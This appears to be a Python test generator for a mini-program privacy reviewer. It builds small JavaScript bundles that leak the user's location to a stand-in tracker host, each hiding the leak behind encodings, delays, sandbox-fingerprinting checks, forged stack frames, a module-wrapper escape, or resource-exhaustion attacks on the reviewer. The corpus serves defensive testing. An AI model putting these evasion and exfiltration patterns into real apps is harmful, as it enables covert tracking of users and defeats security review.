"""The hostile corpus of issue 11: one small bundle per attack, written by this generator so that each is visible
and reviewable here (``python -m tests.hostile.attacks --markdown`` prints tests/hostile/README.md).

Most bundles are the same page: a "Locate" button whose handler calls getLocation and shows that the user was
located (a benign use of the scope, reviewed as approve: see ``ctl-benign``). An attack adds the leak, hidden
behind the attack: ``leak(r)`` sends the location to collect.tracker-example.net, outside the allow-list, which
the review must find (``data-to-network``); ``hand(v)`` passes ``v`` to another mini-program in ``extraData``
(``data-to-miniprogram``), a sink where only the flow decides the verdict, so an encoding that hides the
location turns a reject into an approve. Other attacks aim at the reviewer itself (crash, hang, host memory).

Anything big is made at run time inside the bundle (``'x'.repeat(2 ** 26)``), never stored in a file.

XFAIL lists the attacks (``id``, or ``id@engine`` for one engine) that do not yet end with the right verdict:
the lead removes an entry when a fix lands (the tests are ``xfail(strict=True)``, so a fixed attack that is still
listed fails the suite and says so).
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

ALLOW = ("api.example.com",)
TRACKER = "https://collect.tracker-example.net"
GIB = 1 << 30
HOST_RSS_TARGET_MIB = 1024  # issue 11: the reviewer's peak RSS, whatever the bundle does

# The classes of the "Why", in its order; "control" rows check the yardstick itself.
CLASSES = {
    "control": "controls: the plain leak and the benign page, so that the yardstick is known to measure",
    "no-verdict": "No verdict: the reviewer crashes, runs out of memory or time",
    "silent-record": "A silent record: a cap or a cut hides the leak from the trace",
    "encoding": "Encoding: the location leaves in a form the canary search does not know",
    "timing": "Timing and fingerprinting: the leak waits for time, a repeat, or a device",
    "evidence": "Forged evidence: the finding points at the wrong place, or another module runs",
    "engines": "Two engines, two answers: globals, limits and host memory differ",
    "url": "URLs judged otherwise than the platforms parse them (issue item 6)",
}

VERDICT_RANK = {"approve": 0, "flag": 1, "reject": 2}


@dataclass(frozen=True)
class Attack:
    id: str
    cls: str  # a key of CLASSES
    what: str  # one line: what the bundle does and how it hides the leak or hits the reviewer
    files: dict[str, str]
    expect: str  # "flag" or "reject" (controls may expect "approve"): the least verdict that is right
    rule: str | None = None  # a rule that must be among the findings (the leak, named)
    category: str | None = None  # or a category that must be
    evidence_file: str | None = None  # every finding of ``rule`` must point into this file
    platform: str = "tt"
    allow_domains: tuple[str, ...] = ALLOW
    isolated: bool = False  # can take the reviewer down: reviewed only in a child process with limits
    rlimit_as: int | None = None  # the child's address-space limit, when the attack is the limit itself
    # seconds to minutes of work (100,000 API calls, 64 MiB strings, a memory limit reached): reviewed by
    # bench/hostile.py, not by the test suite (whose hostile table must stay within about a minute of CPU)
    slow: bool = False
    # (the others run with the harness's default limits)
    # (file, old, new) edits that take the attack away and leave the leak: the flipped bundle must be caught
    # today, which shows that the leak is real and that only the attack hides it
    flip: tuple[tuple[str, str, str], ...] = ()

    def flipped(self) -> Attack:
        files = dict(self.files)
        for path, old, new in self.flip:
            assert old in files[path], f"{self.id}: flip {old!r} not in {path}"
            files[path] = files[path].replace(old, new)
        return Attack(**{**self.__dict__, "id": self.id + "-flipped", "files": files, "flip": ()})

    @property
    def root(self) -> str:
        return "pages/index/index"


# ---- the page every leak hides in -------------------------------------------------------------------------------
def _g(platform: str, js: str) -> str:
    return js.replace("$G", platform)


LEAK_FUNCTIONS = f"""var TRACKER = '{TRACKER}';
function leak(r) {{ $G.request({{ url: TRACKER + '/c?ll=' + r.latitude + ',' + r.longitude }}); }}
function hand(v) {{ $G.navigateToMiniProgram({{ appId: 'tt9f3e1c2b4a5d6e7f', path: 'pages/home/home', extraData: {{ v: v }} }}); }}
"""


def page_js(hidden: str = "", *, prelude: str = "", before: str = "", methods: str = "", platform: str = "tt") -> str:
    """The Locate page; ``hidden`` runs with the location ``r`` in the success callback, ``before`` in the tap
    handler before locating, ``prelude`` at module scope, ``methods`` among the page's methods."""
    return _g(platform, f"""{LEAK_FUNCTIONS}{prelude}
Page({{
  data: {{ located: false }},
  go() {{
    var page = this;
    {before}
    $G.getLocation({{ success: function (r) {{
      page.setData({{ located: true }});
      {hidden}
    }} }});
  }},
{methods}
}});
""")


def bundle(page: str, *, platform: str = "tt", app_js: str = "App({});\n", extra: dict[str, str] | None = None,
           template: str | None = None, more_pages: tuple[str, ...] = ()) -> dict[str, str]:
    tpl, style = {"tt": ("ttml", "ttss"), "wx": ("wxml", "wxss")}[platform]
    cond = {"tt": "tt:if", "wx": "wx:if"}[platform]
    app: dict = {"pages": ["pages/index/index", *more_pages], "permission": {"scope.userLocation": {"desc": "to show shops near you"}}}
    if platform == "wx":
        app["requiredPrivateInfos"] = ["getLocation"]
    files = {
        "app.json": json.dumps(app, indent=2) + "\n",
        "app.js": app_js,
        "project.config.json": json.dumps({"miniprogramRoot": "./", "projectname": "shops-nearby"}) + "\n",
        "pages/index/index.js": page,
        f"pages/index/index.{tpl}": template or (f'<view class="page"><text {cond}="{{{{located}}}}">Shops near you'
                                                 f'</text><button bindtap="go">Locate</button></view>\n'),
        f"pages/index/index.{style}": ".page { padding: 24rpx; }\n",
        "pages/index/index.json": '{ "navigationBarTitleText": "Shops" }\n',
    }
    files.update(extra or {})
    return files


def leak_page(hidden: str, platform: str = "tt", **kw) -> dict[str, str]:
    page_kw = {k: kw.pop(k) for k in ("prelude", "before", "methods") if k in kw}
    return bundle(page_js(hidden, platform=platform, **page_kw), platform=platform, **kw)


def deep(expr: str, levels: int) -> str:
    """JS building ``expr`` wrapped ``levels`` objects deep, into ``o``."""
    return f"var o = {{ ll: {expr} }}; for (var i = 0; i < {levels}; i++) o = {{ n: o }};"


LL = "r.latitude + ',' + r.longitude"
B64 = """function b64(s) {
  var t = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', o = '';
  for (var i = 0; i < s.length; i += 3) {
    var n = (s.charCodeAt(i) << 16) | ((s.charCodeAt(i + 1) || 0) << 8) | (s.charCodeAt(i + 2) || 0);
    o += t[n >> 18 & 63] + t[n >> 12 & 63] + (i + 1 < s.length ? t[n >> 6 & 63] : '=') + (i + 2 < s.length ? t[n & 63] : '=');
  }
  return o;
}"""

# 9,000 sync calls (about 0.6-0.8 ms of nominal CPU each thousand) a timer turn, ``ticks`` turns, then ``then``
BURN = LEAK_FUNCTIONS.replace("$G", "tt") + """function burn(ticks, then) {
  for (var i = 0; i < 9000; i++) tt.getStorageInfoSync();
  if (ticks > 1) setTimeout(function () { burn(ticks - 1, then); }, 0); else if (then) then();
}
"""
BURN_TEMPLATE = '<view class="page">{first}<button bindtap="more">Refresh</button></view>'

# ---- the table ----------------------------------------------------------------------------------------------------
ATTACKS: list[Attack] = [
    # controls
    Attack("ctl-benign", "control", "locates on a tap and shows it; sends nothing", leak_page(""), "approve"),
    Attack("ctl-plain-leak", "control", "the location sent to the tracker as it is", leak_page("leak(r);"),
           "reject", rule="data-to-network"),
    Attack("ctl-plain-handoff", "control", "the location handed to another mini-program as it is",
           leak_page(f"hand({LL});"), "reject", rule="data-to-miniprogram"),
    Attack("ctl-base64-handoff", "control", "the location handed over in base64 (an encoding the search knows)",
           leak_page(f"hand(b64({LL}));", prelude=B64),
           "reject", rule="data-to-miniprogram"),
    Attack("ctl-wechat-leak", "control", "WeChat: the location sent to the tracker as it is",
           leak_page("leak(r);", platform="wx"), "reject", rule="data-to-network", platform="wx"),

    # No verdict
    Attack("nv-error-tostring-overflow", "no-verdict",
           "error prototypes whose toString calls the API, then a stack overflow escapes to the host",
           leak_page("deep();", prelude="""
function deep() { deep(); }
RangeError.prototype.toString = Error.prototype.toString = function () {
  $G.getLocation({ success: leak });
  return String(this.message);
};"""), "reject", isolated=True),
    Attack("nv-deep-share-payload", "no-verdict",
           "onShareAppMessage returns a payload 1,500 levels deep with the location at the bottom",
           leak_page("page.loc = r;", methods="""
  onShareAppMessage() {
    var r = this.loc || { latitude: 0, longitude: 0 };
    """ + deep(LL, 1500) + """
    return { title: 'Shops', path: '/pages/index/index', extra: o };
  },"""), "flag", rule="data-to-share", isolated=True),
    Attack("nv-long-names-setdata", "no-verdict",
           "after the leak, setData from thousands of functions with 1 MiB names, 20 per timer turn: the host "
           "keeps every stack",
           leak_page("leak(r); tick(page, 0);", prelude="""
var pad = 'x'.repeat(1 << 20);
function tick(page, n) {
  for (var j = 0; j < 20; j++) {
    var f = function () { page.setData({ n: n }); };
    Object.defineProperty(f, 'name', { value: ('set' + n + '_' + j + pad).slice(0) });  // flat: ropes are not names
    f();
  }
  if (n < 400) setTimeout(function () { tick(page, n + 1); }, 0);
}"""), "reject", rule="data-to-network", isolated=True, slow=True),
    Attack("nv-unmetered-builtin", "no-verdict",
           "after the leak, an interval whose ticks compare two equal 64 MiB strings 40 times: seconds of work a "
           "tick that the CPU count does not see (found here)",
           leak_page("leak(r); setInterval(function () { var c = 0; for (var i = 0; i < 40; i++) c += h === g ? 1 : 0; }, 10);",
                     prelude="var h = 'a'.repeat(1 << 26), g = ('a'.repeat(1 << 25) + 'a'.repeat(1 << 25)).slice(0);"),
           "reject", rule="data-to-network", isolated=True),
    Attack("nv-indexof-huge", "no-verdict",
           "one indexOf of a 64 KiB needle in a 128 MiB string (a builtin that runs for minutes)",
           leak_page("find(); leak(r);", prelude="""
function find() {
  var hay = 'a'.repeat(1 << 27);
  var needle = 'a'.repeat(1 << 16) + 'b';
  return hay.indexOf(needle);
}"""), "reject", isolated=True, slow=True),

    # A silent record
    Attack("sr-event-cap", "silent-record",
           "108,000 cheap API calls over 4 taps on 2 pages (each within its budgets), then the leak: past the "
           "trace's event cap", leak_page("getApp().loc = r;", prelude=BURN, methods="  more() { burn(3, null); },\n  reload() { burn(3, null); },",
                                          template=BURN_TEMPLATE.format(first='<button bindtap="go">Locate</button>'
                                                                                '<button bindtap="reload">Reload</button>'),
                                          more_pages=("pages/two/two",), extra={
               "pages/two/two.js": BURN + "Page({ more() { burn(3, null); },"
                                   " last() { burn(3, function () { leak(getApp().loc); }); } });\n",
               "pages/two/two.ttml": BURN_TEMPLATE.format(first="") + '<button bindtap="last">Send</button>\n',
               "pages/two/two.json": "{}\n"}), "reject", slow=True),
    Attack("sr-deep-request-data", "silent-record", "a request whose data is 1,500 levels deep with the location",
           leak_page(deep(LL, 1500) + " $G.request({ url: TRACKER + '/d', method: 'POST', data: o });"),
           "reject", rule="data-to-network"),
    Attack("sr-tojson-self", "silent-record",
           "extraData whose toJSON returns the object itself, the location 70 levels deep",
           leak_page(deep(LL, 70) + " o.toJSON = function () { return this; }; hand(o);"),
           "reject", rule="data-to-miniprogram"),

    # Encoding: string transforms handed over (only the flow decides), binary bodies to the tracker
    Attack("enc-split", "encoding", "the location's text cut into 3-character pieces",
           leak_page(f"var s = {LL}; var parts = []; for (var i = 0; i < s.length; i += 3) parts.push(s.slice(i, i + 3));"
                     " hand(parts);"), "reject", rule="data-to-miniprogram"),
    Attack("enc-reverse", "encoding", "the location's text reversed",
           leak_page(f"hand(({LL}).split('').reverse().join(''));"), "reject", rule="data-to-miniprogram"),
    Attack("enc-offset", "encoding", "the coordinates plus a constant offset",
           leak_page("hand([r.latitude + 0.123457, r.longitude - 0.654321]);"), "reject", rule="data-to-miniprogram"),
    Attack("enc-scale", "encoding", "the coordinates times 7",
           leak_page("hand([r.latitude * 7, r.longitude * 7]);"), "reject", rule="data-to-miniprogram"),
    Attack("enc-char-codes", "encoding", "the location's text as char codes",
           leak_page(f"hand(({LL}).split('').map(function (c) {{ return c.charCodeAt(0); }}));"),
           "reject", rule="data-to-miniprogram"),
    Attack("enc-xor", "encoding", "the location's char codes XOR 0x5a",
           leak_page(f"hand(({LL}).split('').map(function (c) {{ return c.charCodeAt(0) ^ 0x5a; }}));"),
           "reject", rule="data-to-miniprogram"),
    Attack("enc-base36", "encoding", "the coordinates in micro-degrees, in base 36",
           leak_page("hand([Math.round(r.latitude * 1e6).toString(36), Math.round(r.longitude * 1e6).toString(36)]);"),
           "reject", rule="data-to-miniprogram"),
    Attack("enc-arraybuffer", "encoding", "the location's text as an ArrayBuffer request body",
           leak_page(f"var s = {LL}; var b = new Uint8Array(s.length); for (var i = 0; i < s.length; i++) b[i] = s.charCodeAt(i);"
                     " $G.request({ url: TRACKER + '/b', method: 'POST', data: b.buffer });"),
           "reject", rule="data-to-network"),
    Attack("enc-typed-array", "encoding", "the coordinates as a Float64Array's buffer",
           leak_page("$G.request({ url: TRACKER + '/f', method: 'POST', data: new Float64Array([r.latitude, r.longitude]).buffer });"),
           "reject", rule="data-to-network"),
    Attack("enc-socket-frame", "encoding",
           "the clipboard's text in a binary WebSocket frame to the allowed server (sockets to other hosts fail; "
           "the clipboard may not leave the device even there)",
           leak_page("", before="$G.getClipboardData({ success: function (c) { var s = String(c.data);"
                                " var b = new Uint8Array(s.length); for (var i = 0; i < s.length; i++) b[i] = s.charCodeAt(i);"
                                " var ws = $G.connectSocket({ url: 'wss://api.example.com/ws' });"
                                " ws.onOpen(function () { ws.send({ data: b.buffer }); }); } });",
                     extra={"app.json": json.dumps({"pages": ["pages/index/index"], "permission": {
                         "scope.userLocation": {"desc": "to show shops near you"},
                         "scope.clipboard": {"desc": "to paste a shop's code"}}}, indent=2) + "\n"}),
           "flag", rule="data-to-network"),

    Attack("tf-timer-60s", "timing", "the leak 60 s after the tap",
           leak_page("setTimeout(function () { leak(r); }, 60000);"), "reject", rule="data-to-network"),
    Attack("tf-interval-slow", "timing", "the leak on the 10th tick of a 15-second interval (the page open 150 s)",
           leak_page("var n = 0; var id = setInterval(function () { if (++n === 10) { clearInterval(id); leak(r); } }, 15000);"),
           "reject", rule="data-to-network"),
    Attack("tf-second-tap", "timing", "the leak on the second tap only",
           leak_page("page.taps = (page.taps || 0) + 1; if (page.taps >= 2) leak(r);"), "reject", rule="data-to-network"),
    Attack("tf-second-launch", "timing", "the leak when the page loads, from the second launch on (a counter in"
           " storage)", leak_page("", methods="  onLoad() { if (getApp().launches >= 2) $G.getLocation({ success: leak"
                                         " }); },"), "reject", rule="data-to-network"),
    Attack("tf-second-launch-tap", "timing", "the leak on a tap, from the second launch on (a counter in storage)",
           leak_page("if (getApp().launches >= 2) leak(r);"),
           "reject", rule="data-to-network"),
    Attack("tf-brand", "timing", "no leak when the system info names a sandbox",
           leak_page("var i = $G.getSystemInfoSync(); if (!/sandbox/i.test(i.brand + ' ' + i.model)) leak(r);"),
           "reject", rule="data-to-network"),
    Attack("tf-round-clock", "timing", "no leak when Date.now() is a whole second",
           leak_page("if (!roundClock) leak(r);", before="var roundClock = Date.now() % 1000 === 0;"),
           "reject", rule="data-to-network"),
    Attack("tf-frozen-performance", "timing", "no leak when performance.now() does not move during busy work",
           leak_page("if (!frozen) leak(r);",
                     before="var t0 = performance.now(); for (var k = 0, x = 0; k < 200000; k++) x += k;"
                            " var frozen = performance.now() === t0;"),
           "reject", rule="data-to-network"),
    Attack("tf-stack-file", "timing", "no leak when an error's stack names the framework's file",
           leak_page("if (!/mpsandbox|framework\\.js/.test(st)) leak(r);",
                     before="var st = ''; try { null.f(); } catch (e) { st = String(e.stack); }"),
           "reject", rule="data-to-network"),
    Attack("tf-function-source", "timing", "no leak when the API's or Page's source text is the sandbox's",
           leak_page("if (!/dispatchCall|mpsandbox|mpsb/.test(String($G.getLocation) + String(Page))) leak(r);"),
           "reject", rule="data-to-network"),
    Attack("tf-replayed-random", "timing", "no leak when Math.random() gives the sequence every review gives",
           leak_page("if (getApp().firstRandom !== 0.32653682865202427) leak(r);"),
           "reject", rule="data-to-network"),
    Attack("tf-binary-api", "timing", "no leak when arrayBufferToBase64 of bytes 1, 2, 3 is not 'AQID' (found here)",
           leak_page("if ($G.arrayBufferToBase64(new Uint8Array([1, 2, 3]).buffer) === 'AQID') leak(r);"),
           "reject", rule="data-to-network"),
    Attack("tf-canary-marker", "timing", "no leak when the user's nickname has the sandbox's marker (found here)",
           leak_page("(function wait(k) { if (page.marked === undefined && k < 50) return setTimeout(function () {"
                     " wait(k + 1); }, 100); if (page.marked === false) leak(r); })(0);",
                     before="$G.getUserProfile({ desc: 'to greet you', success: function (p) {"
                            " page.marked = /^mpsb|example-cdn/.test(p.userInfo.nickName + ' ' + p.userInfo.avatarUrl); } });"),
           "reject", rule="data-to-network"),

    # Forged evidence
    Attack("fe-newline-name", "evidence", "the leaking function's name forges a frame in another file",
           leak_page("$G.getLocation({ success: send });", prelude="""
function send(r) { leak(r); }
Object.defineProperty(send, 'name', { value: 'send (utils/format.js:1:1)\\n    at go' });
Object.defineProperty(leak, 'name', { value: 'leak (utils/format.js:2:1)\\n    at go' });""",
                     extra={"utils/format.js": "module.exports = { money: function (c) { return (c / 100).toFixed(2); } };\n"}),
           "reject", rule="data-to-network", evidence_file="pages/index/index.js"),
    Attack("fe-newline-name-framework", "evidence", "forged names make every frame look like the framework's",
           leak_page("$G.getLocation({ success: send });", prelude="""
function send(r) { leak(r); }
Object.defineProperty(send, 'name', { value: 'send (mpsandbox/framework.js:1:1)\\n    at go' });
Object.defineProperty(leak, 'name', { value: 'leak (mpsandbox/framework.js:2:1)\\n    at go' });"""),
           "reject", rule="data-to-network", evidence_file="pages/index/index.js"),
    Attack("fe-module-escape", "evidence",
           "a.js closes its module wrapper and defines a benign page in place of the leaking one",
           leak_page("leak(r);", extra={"a.js": """});
(function () {
  var names = Object.getOwnPropertyNames(globalThis);
  for (var i = 0; i < names.length; i++) {
    if (/define/.test(names[i]) && typeof globalThis[names[i]] === 'function') {
      globalThis[names[i]]('pages/index/index.js', function () { Page({ data: {}, go: function () {} }); });
    }
  }
})();
(function () {
"""}), "reject", rule="data-to-network", evidence_file="pages/index/index.js"),

    # Two engines, two answers
    Attack("te-atomics", "engines", "the leak only where Atomics exists (as on devices)",
           leak_page("if (typeof Atomics === 'object') leak(r);"), "reject", rule="data-to-network"),
    Attack("te-rejection-cap", "engines",
           "4,096 rejections held unhandled, a 4,097th left unhandled; App.onUnhandledRejection leaks",
           leak_page("getApp().loc = r; var held = []; for (var i = 0; i < 4096; i++) held.push(Promise.reject(i));"
                     " Promise.reject(new Error('lost'));"
                     " held.forEach(function (p) { p.catch(function () {}); });",
                     app_js="App({ onUnhandledRejection: function () { if (this.loc) leak(this.loc); } });\n"
                            "var TRACKER = 'https://collect.tracker-example.net';\n"
                            "function leak(r) { tt.request({ url: TRACKER + '/c?ll=' + r.latitude + ',' + r.longitude }); }\n"),
           "reject", rule="data-to-network"),
    Attack("te-caught-oom", "engines", "allocates to the memory limit, catches the error and goes on",
           leak_page("try { var big = []; for (;;) big.push('x'.repeat(1 << 20) + big.length); } catch (e) { big = null; }"),
           "reject", rule="memory-limit", isolated=True),
    Attack("te-ulimit-4g", "engines", "the plain leak, reviewed under a 4 GiB address-space limit (ulimit -v)",
           leak_page("leak(r);"), "reject", rule="data-to-network", isolated=True, rlimit_as=4 * GIB),
    Attack("te-big-message", "engines", "a 64 MiB string logged and stored: the host copies what crosses the bridge",
           leak_page("leak(r); var big = 'x'.repeat(1 << 26); console.log(big); $G.setStorage({ key: 'k', data: big });"),
           "reject", rule="data-to-network", isolated=True, slow=True),

    # URLs
    Attack("url-backslash", "url", "the tracker's host before a backslash and an allowed host after '@'",
           leak_page("$G.request({ url: 'https://collect.tracker-example.net\\\\@api.example.com/c?ll=' + r.latitude });"),
           "reject", rule="domain-not-allowed"),
    Attack("url-ip-hex", "url", "an IP address in hex and short form (0x7f.1 is 127.0.0.1)",
           leak_page("$G.request({ url: 'https://0x7f.1/c?ll=' + r.latitude });"), "reject", rule="ip-or-localhost"),
]

# App code some attacks need (kept next to the table so that each row reads whole)
_APP_JS = {
    "tf-second-launch": "App({ onLaunch() { var n = tt.getStorageSync('launches') || 0;"
                        " tt.setStorageSync('launches', n + 1); this.launches = n + 1; } });\n",
    "tf-second-launch-tap": "App({ onLaunch() { var n = tt.getStorageSync('launches') || 0;"
                            " tt.setStorageSync('launches', n + 1); this.launches = n + 1; } });\n",
    "tf-replayed-random": "var first = Math.random();\nApp({ firstRandom: first });\n",
}
PAGE = "pages/index/index.js"
# How to take each attack away (see Attack.flip): the leak must then be caught today.
_FLIPS: dict[str, tuple[tuple[str, str, str], ...]] = {
    "sr-event-cap": (("pages/two/two.js", "last() { burn(3,", "last() { burn(1,"),),
    "sr-deep-request-data": ((PAGE, "i < 1500", "i < 3"),),
    "sr-tojson-self": ((PAGE, "o.toJSON = function () { return this; };", ""),),
    "enc-split": ((PAGE, "i += 3) parts.push(s.slice(i, i + 3))", "i += 99) parts.push(s.slice(i, i + 99))"),),
    "enc-reverse": ((PAGE, ".split('').reverse().join('')", ""),),
    "enc-offset": ((PAGE, "r.latitude + 0.123457, r.longitude - 0.654321", "r.latitude, r.longitude"),),
    "enc-scale": ((PAGE, "r.latitude * 7, r.longitude * 7", "r.latitude, r.longitude"),),
    "enc-char-codes": ((PAGE, ".split('').map(function (c) { return c.charCodeAt(0); })", ""),),
    "enc-xor": ((PAGE, ".split('').map(function (c) { return c.charCodeAt(0) ^ 0x5a; })", ""),),
    "enc-base36": ((PAGE, "Math.round(r.latitude * 1e6).toString(36)", "r.latitude"),),
    "enc-arraybuffer": ((PAGE, "data: b.buffer", "data: s"),),
    "enc-typed-array": ((PAGE, "new Float64Array([r.latitude, r.longitude]).buffer", "[r.latitude, r.longitude]"),),
    "enc-socket-frame": ((PAGE, "ws.send({ data: b.buffer })", "ws.send({ data: s })"),),
    "tf-timer-60s": ((PAGE, "}, 60000);", "}, 0);"),),
    "tf-interval-slow": ((PAGE, "}, 15000);", "}, 15);"),),
    "tf-second-tap": ((PAGE, "page.taps >= 2", "page.taps >= 1"),),
    "tf-second-launch": ((PAGE, "launches >= 2", "launches >= 1"),),
    "tf-second-launch-tap": ((PAGE, "launches >= 2", "launches >= 1"),),
    "tf-brand": ((PAGE, "if (!/sandbox/i", "if (true || !/sandbox/i"),),
    "tf-round-clock": ((PAGE, "if (!roundClock)", "if (true || !roundClock)"),),
    "tf-frozen-performance": ((PAGE, "if (!frozen)", "if (true || !frozen)"),),
    "tf-stack-file": ((PAGE, "if (!/mpsandbox", "if (true || !/mpsandbox"),),
    "tf-function-source": ((PAGE, "if (!/dispatchCall", "if (true || !/dispatchCall"),),
    "tf-replayed-random": ((PAGE, "if (getApp().firstRandom", "if (true || getApp().firstRandom"),),
    "tf-binary-api": ((PAGE, "=== 'AQID') leak", "=== 'AQID' || true) leak"),),
    "tf-canary-marker": ((PAGE, "if (page.marked === false)", "if (page.marked !== undefined)"),),
    "fe-newline-name": ((PAGE, "Object.defineProperty(send", "0 && Object.defineProperty(send"),
                        (PAGE, "Object.defineProperty(leak", "0 && Object.defineProperty(leak")),
    "fe-newline-name-framework": ((PAGE, "Object.defineProperty(send", "0 && Object.defineProperty(send"),
                                  (PAGE, "Object.defineProperty(leak", "0 && Object.defineProperty(leak")),
    "fe-module-escape": (("a.js", "('pages/index/index.js'", "('pages/none.js'"),),
    "te-atomics": ((PAGE, "if (typeof Atomics", "if (true || typeof Atomics"),),
    "te-rejection-cap": ((PAGE, "i < 4096", "i < 10"),),
    "url-backslash": ((PAGE, "\\\\@api.example.com", ""),),
}


def _finish(a: Attack) -> Attack:
    files = {**a.files, "app.js": _APP_JS[a.id]} if a.id in _APP_JS else a.files
    return Attack(**{**a.__dict__, "files": files, "flip": _FLIPS.get(a.id, ())})


ATTACKS = [_finish(a) for a in ATTACKS]
BY_ID = {a.id: a for a in ATTACKS}

# Attacks that do not end with the right verdict yet: "id" (both engines) or "id@engine", each with why. Remove an
# entry when its fix lands; xfail(strict=True) fails the suite while a fixed attack is still listed.
XFAIL: dict[str, str] = {}


def expected_to_fail(attack_id: str, engine: str) -> bool:
    return attack_id in XFAIL or f"{attack_id}@{engine}" in XFAIL


def write(attack: Attack, root: Path) -> Path:
    """Write the attack's bundle under ``root``; returns its directory."""
    out = root / attack.id
    for rel, text in attack.files.items():
        path = out / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return out


def markdown() -> str:
    lines = ["# Hostile corpus (issue 11)", "",
             "Written by `tests/hostile/attacks.py` (this file: `python -m tests.hostile.attacks --markdown`).",
             "Each row is a bundle that hides a location leak behind an attack, or attacks the reviewer. *Right*",
             "means: the verdict is at least the expected one, the named rule or category is among the findings,",
             "and, where a file is named, every finding of the rule points into it. *Isolated* rows can take the",
             "reviewer down and are reviewed only in a child process with a wall timeout and memory limits.",
             "`python bench/hostile.py` prints the table of results on both engines; `tests/test_hostile.py`",
             "asserts it on both engines (rows in `XFAIL` are expected to fail until their fix lands, each with",
             "why), except the *slow* rows (seconds to minutes of work each: run by the bench only).", "",
             "Most rows are one page: a *Locate* button whose handler calls `getLocation` and shows that the user",
             "was located (a benign use of the scope: `ctl-benign` is approved). The attack adds a leak behind it:",
             "`leak(r)` sends the coordinates to collect.tracker-example.net, outside the allow-list",
             "(`api.example.com`), or `hand(v)` passes a value to another mini-program in `extraData`, a sink",
             "where only the flow decides the verdict (so an encoding that hides the location turns a reject into",
             "an approve). Rows that attack the reviewer itself leak first and then strike, so a reviewer that",
             "survives rejects. Where a row can be *taken away* (`flip` in the table: the fingerprint check",
             "made always true, the delay removed, the encoding dropped), the flipped bundle must be caught today",
             "(`test_flipped_attack_is_caught`): the leak is real and only the attack hides it.",
             "Anything big is made at run time inside the bundle (`'x'.repeat(2 ** 26)`), never stored.",
             "One attack of the issue is not a row: the wasm bridge trusting pointers from inside the sandbox",
             "(a bundle's JS cannot hand the bridge a pointer; the engine's own tests check it).", ""]
    for cls, about in CLASSES.items():
        lines += [f"## {cls}", "", about, "", "| id | what | expect | must find | isolated | flip | run by |",
                  "|---|---|---|---|---|---|---|"]
        for a in ATTACKS:
            if a.cls != cls:
                continue
            need = ", ".join(x for x in (a.rule, a.category and f"category {a.category}",
                                          a.evidence_file and f"in {a.evidence_file}") if x) or "—"
            iso = "yes" + (f" (address space {a.rlimit_as // GIB} GiB)" if a.rlimit_as else "") if a.isolated else ""
            plat = "" if a.platform == "tt" else f" ({a.platform})"
            flip = "yes" if a.flip else ""
            by = "bench" if a.slow else "tests"
            lines.append(f"| `{a.id}` | {a.what}{plat} | {a.expect} | {need} | {iso} | {flip} | {by} |")
        lines.append("")
    lines += ["## Expected to fail now", "", "| row | why |", "|---|---|"]
    lines += [f"| `{x}` | {why} |" for x, why in sorted(XFAIL.items())] or ["| — | none |"]
    lines.append("")
    return "\n".join(lines)


if __name__ == "__main__":
    import sys

    if sys.argv[1:] == ["--markdown"]:
        print(markdown(), end="")
    elif sys.argv[1:2] == ["--write"] and len(sys.argv) == 3:
        for a in ATTACKS:
            print(write(a, Path(sys.argv[2])))
    else:
        sys.exit("usage: python -m tests.hostile.attacks --markdown | --write DIR")
